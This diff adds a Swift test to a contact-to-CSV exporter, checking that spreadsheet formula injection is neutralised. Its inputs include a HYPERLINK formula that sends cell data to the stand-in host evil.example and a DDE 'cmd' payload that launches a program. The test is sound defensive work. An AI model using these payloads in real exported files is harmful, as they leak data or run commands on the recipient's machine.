@@ -56,4 +56,21 @@ import Testing
         #expect(lines[1].hasPrefix("Sean,,Owen,,,,,,\"Example, Inc.\",Engineer,\"said \"\"hi\"\"\",Work,sean@example.com,"))
         #expect(lines[1].contains("Mobile,+1 415 555 0102,Work Fax,+1 415 555 0103"))
     }
+
+    @Test("cells a spreadsheet would run as formulas get a ' in front and quotes; phone numbers and plain text stay as written")
+    func formulasInert() throws {
+        var p = Profile()
+        p.givenName = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
+        p.familyName = "@SUM(1+1)"
+        p.organization = "+cmd|' /C calc'!A0"
+        p.title = "+A1*2"
+        p.note = "\tlead\nnext"
+        p.phones = [Phone(number: "+81 3-1234-5678", types: ["work"]), Phone(number: "+1 (415) 555.0100", types: ["cell"])]
+        p.urls = [WebURL(value: "https://example.com/-x", types: ["work"])]
+        let csv = ContactCSV.write([try p.snapshot()])
+        let row = csv[csv.firstRange(ofText: "\r\n")!.upperBound...]
+        #expect(row.hasPrefix(#""'=HYPERLINK(""https://evil.example/?""&A1,""x"")",,"'@SUM(1+1)",,,,,,"'+cmd|' /C calc'!A0","'+A1*2","'\#tlead\#nnext","#))
+        #expect(row.contains(",Work,+81 3-1234-5678,Mobile,+1 (415) 555.0100,,,"))
+        #expect(row.contains(",Work,https://example.com/-x,"))
+    }
 }
